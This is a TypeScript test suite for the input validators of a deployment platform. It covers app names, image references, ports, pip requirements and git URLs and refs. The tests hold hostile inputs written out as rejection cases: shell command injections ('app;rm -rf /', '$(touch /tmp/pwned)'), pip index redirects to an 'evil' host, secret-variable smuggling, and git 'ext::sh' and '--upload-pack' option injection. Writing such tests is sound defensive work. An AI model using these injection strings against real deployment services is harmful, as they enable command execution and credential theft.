import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { InputError } from '@ashapp/platform';
import {
  validateAppCode,
  validateAppName,
  validateDeploySettings,
  validateGitRef,
  validateGitUrl,
  validateImageReference,
  validateNamespace,
  validatePort,
  validateRegistryHost,
  validateReplicas,
  validateRepositoryName,
  validateRequirements,
  validateServiceType,
  validateTag,
  validateWorkloadKind,
} from './inputs.ts';

function assertInputError(fn: () => unknown, field: string): void {
  assert.throws(fn, (err: unknown) => {
    assert.ok(err instanceof InputError, `expected InputError, got ${String(err)}`);
    assert.equal(err.status, 400);
    assert.equal(err.details?.field, field);
    assert.match(err.message, new RegExp(`^${field}: `));
    return true;
  });
}

const injections = [
  'app;rm -rf /',
  'app\nkind: Secret',
  'a\n  b: c',
  '$(touch /tmp/pwned)',
  '`id`',
  'app name',
  '../etc',
  'App',
  '-app',
  'app-',
  'x'.repeat(10_000),
];

describe('app names and namespaces', () => {
  test('accepts RFC 1123 names as the screenshot uses them', () => {
    assert.equal(validateAppName('app'), 'app');
    assert.equal(validateAppName('hello-world-2'), 'hello-world-2');
    assert.equal(validateNamespace('default'), 'default');
    assert.equal(validateNamespace('team-1'), 'team-1');
    assert.equal(validateNamespace(undefined), 'default');
  });

  for (const bad of injections) {
    test(`rejects app name ${JSON.stringify(bad.slice(0, 30))} with a 400 naming app_name`, () => {
      assertInputError(() => validateAppName(bad), 'app_name');
    });
    test(`rejects namespace ${JSON.stringify(bad.slice(0, 30))} with a 400 naming namespace`, () => {
      assertInputError(() => validateNamespace(bad), 'namespace');
    });
  }

  test('rejects an app name starting with a digit (Service names are DNS-1035 labels)', () => {
    assertInputError(() => validateAppName('1app'), 'app_name');
  });

  test('rejects an app name longer than 50 and a namespace longer than 63 characters', () => {
    assert.equal(validateAppName('a'.repeat(50)).length, 50);
    assertInputError(() => validateAppName('a'.repeat(51)), 'app_name');
    assert.equal(validateNamespace('a'.repeat(63)).length, 63);
    assertInputError(() => validateNamespace('a'.repeat(64)), 'namespace');
  });

  test('rejects non-string values', () => {
    assertInputError(() => validateAppName(42), 'app_name');
    assertInputError(() => validateAppName({ toString: () => 'app' }), 'app_name');
  });
});

describe('image references, repository names, tags and registry hosts', () => {
  test('parses references with and without registry, tag and digest', () => {
    assert.deepEqual(validateImageReference('ashwanth01/app:latest'), {
      registry: undefined,
      repository: 'ashwanth01/app',
      tag: 'latest',
      digest: undefined,
    });
    assert.deepEqual(validateImageReference('127.0.0.1:5000/hello:r3'), {
      registry: '127.0.0.1:5000',
      repository: 'hello',
      tag: 'r3',
      digest: undefined,
    });
    assert.equal(validateImageReference('docker.io/library/python:3.12-slim').registry, 'docker.io');
    assert.equal(validateImageReference('localhost/pybase').registry, 'localhost');
    const digest = `sha256:${'a'.repeat(64)}`;
    assert.equal(validateImageReference(`ghcr.io/o/r@${digest}`).digest, digest);
  });

  for (const bad of [
    '',
    'UPPER/app',
    'app:',
    'app:-x',
    'a b',
    'app;id',
    'app\n',
    '$(id)/x',
    'x/../y',
    '-x',
  ]) {
    test(`rejects image ${JSON.stringify(bad)}`, () => {
      assertInputError(() => validateImageReference(bad), 'image');
    });
  }

  test('checks repository names, tags and registry hosts', () => {
    assert.equal(validateRepositoryName('ashwanth01/app'), 'ashwanth01/app');
    assertInputError(() => validateRepositoryName('a;b'), 'image_name');
    assert.equal(validateTag(undefined), 'latest');
    assert.equal(validateTag('v1.2_3'), 'v1.2_3');
    assertInputError(() => validateTag('.hidden'), 'tag');
    assertInputError(() => validateTag('x'.repeat(129)), 'tag');
    assertInputError(() => validateTag('a\nb'), 'tag');
    assert.equal(validateRegistryHost('GHCR.io'), 'ghcr.io');
    assert.equal(validateRegistryHost('127.0.0.1:5000'), '127.0.0.1:5000');
    assertInputError(() => validateRegistryHost('https://ghcr.io'), 'registry');
    assertInputError(() => validateRegistryHost('evil.com/path'), 'registry');
  });
});

describe('numbers and enums', () => {
  test('accepts ports 1 to 65535 and rejects the rest', () => {
    assert.equal(validatePort(1), 1);
    assert.equal(validatePort('5000'), 5000);
    assert.equal(validatePort(65535), 65535);
    for (const bad of [0, 65536, -1, 1.5, '5000; rm', 'abc', null, NaN]) {
      assertInputError(() => validatePort(bad), 'container_port');
    }
  });

  test('bounds replicas between 1 and the configured maximum', () => {
    assert.equal(validateReplicas(undefined), 1);
    assert.equal(validateReplicas(2), 2);
    assertInputError(() => validateReplicas(0), 'replicas');
    assertInputError(() => validateReplicas(21), 'replicas');
    assert.equal(validateReplicas(40, { max: 40 }), 40);
  });

  test('accepts only the known service types and workload kinds', () => {
    assert.equal(validateServiceType('NodePort'), 'NodePort');
    assert.equal(validateServiceType('LoadBalancer'), 'LoadBalancer');
    assertInputError(() => validateServiceType('ExternalName'), 'service_type');
    assertInputError(() => validateServiceType('nodeport'), 'service_type');
    assert.equal(validateWorkloadKind('ReplicaSet'), 'ReplicaSet');
    assertInputError(() => validateWorkloadKind('DaemonSet'), 'k8s_kind');
    assertInputError(() => validateWorkloadKind('Pod\n---'), 'k8s_kind');
  });

  test('checks the whole deploy settings body and names the first bad field', () => {
    const settings = validateDeploySettings({
      app_name: 'app',
      code: 'x',
      k8s_kind: 'Deployment',
      replicas: 2,
      service_type: 'NodePort',
      container_port: 5000,
      namespace: 'default',
    });
    assert.deepEqual(settings, {
      appName: 'app',
      namespace: 'default',
      kind: 'Deployment',
      replicas: 2,
      serviceType: 'NodePort',
      containerPort: 5000,
    });
    assertInputError(() => validateDeploySettings({ app_name: 'app', namespace: 'a\n  b: c' }), 'namespace');
  });
});

describe('code and requirements', () => {
  test('accepts code up to 256 KiB and rejects empty, NUL and larger code', () => {
    assert.ok(validateAppCode('print(1)\n'));
    assertInputError(() => validateAppCode('   \n'), 'code');
    assertInputError(() => validateAppCode('a\u0000b'), 'code');
    assertInputError(() => validateAppCode('#'.repeat(256 * 1024 + 1)), 'code');
  });

  test('accepts requirement specifiers and refuses pip options and URLs', () => {
    assert.equal(validateRequirements(''), undefined);
    const ok =
      'flask==3.0.3\nrequests>=2,<3  # http\n\n# comment\nuvicorn[standard]~=0.30\npywin32; sys_platform == "win32"\n';
    assert.equal(validateRequirements(ok), ok);
    for (const bad of [
      '-r /etc/passwd',
      '--index-url https://evil/simple',
      '-e .',
      'git+https://x/y.git',
      'flask\n$(id)',
      'a\u0000',
    ]) {
      assertInputError(() => validateRequirements(bad), 'requirements');
    }
  });

  test('refuses pip options hidden after an environment marker, variables, continuations and direct references (issue 8)', () => {
    assert.ok(
      validateRequirements('gunicorn; python_version >= "3.8" and platform_machine != "x86-64"  # fine\n'),
    );
    for (const bad of [
      'flask; python_version>"0" --config-settings=editable_mode=compat',
      'flask; python_version>"0" --hash=sha256:0000',
      "flask; sys_platform == 'linux' -i https://evil/simple",
      'flask;python_version>"0"\t--global-option=--x',
      'flask==${AWS_SECRET_ACCESS_KEY}',
      'flask \\\n--index-url https://evil/simple',
      'flask; python_version>"0" \\',
      'flask @ https://evil/flask.whl',
      'flask; python_version>"0" @ https://evil/x',
    ]) {
      assert.throws(
        () => validateRequirements(bad),
        (err: unknown) => err instanceof InputError && /^requirements: line \d/.test(err.message),
        bad,
      );
    }
  });
});

describe('git repository URLs and refs', () => {
  const local = { allowLocalPaths: true };
  const remoteOnly = { allowLocalPaths: false };

  test('accepts https URLs and, when allowed, absolute local paths', () => {
    assert.deepEqual(validateGitUrl('https://github.com/o/r.git', remoteOnly), {
      kind: 'https',
      url: 'https://github.com/o/r.git',
    });
    assert.deepEqual(validateGitUrl('/srv/repos/app/', local), { kind: 'local', path: '/srv/repos/app' });
  });

  const badUrls: Array<[string, string]> = [
    ['ext::sh -c touch% /tmp/pwned', 'transport helper'],
    ['--upload-pack=touch /tmp/pwned', 'option'],
    ['-c', 'option'],
    ['-cprotocol.ext.allow=always', 'option'],
    ['file:///etc', 'file scheme'],
    ['ssh://git@github.com/o/r.git', 'ssh scheme'],
    ['git@github.com:o/r.git', 'scp-like'],
    ['http://github.com/o/r.git', 'plain http'],
    ['https://user:pass@github.com/o/r.git', 'credentials in URL'],
    ['https://github.com/o/../../r', 'traversal'],
    ['https://github.com/o/%2e%2e/r', 'encoded traversal'],
    ['/srv/../etc', 'local traversal'],
    ['/srv/x:y', 'colon in local path'],
    ['relative/path', 'relative path'],
    ['https://github.com/o/r\n--upload-pack=x', 'newline'],
    [`https://github.com/${'a'.repeat(3000)}`, 'over-long'],
  ];
  for (const [bad, why] of badUrls) {
    test(`rejects repo URL (${why})`, () => {
      assertInputError(() => validateGitUrl(bad, local), 'repo_url');
    });
  }

  test('rejects local paths when they are not allowed', () => {
    assertInputError(() => validateGitUrl('/srv/repos/app', remoteOnly), 'repo_url');
  });

  test('accepts branch and tag names and rejects what git check-ref-format rejects', () => {
    assert.equal(validateGitRef(undefined), 'main');
    assert.equal(validateGitRef('feature/login-v2'), 'feature/login-v2');
    assert.equal(validateGitRef('v1.2.3'), 'v1.2.3');
    for (const bad of [
      '-c',
      '--upload-pack=x',
      'a..b',
      'a b',
      'a~1',
      'a^',
      'a:b',
      'x.lock',
      '.hidden',
      'a/.b',
      'a//b',
      'a@{1}',
      '@',
      'a\nb',
      'end/',
      'end.',
      'a*',
      'a[',
      'a\\b',
      'x'.repeat(256),
    ]) {
      assertInputError(() => validateGitRef(bad), 'ref');
    }
  });
});
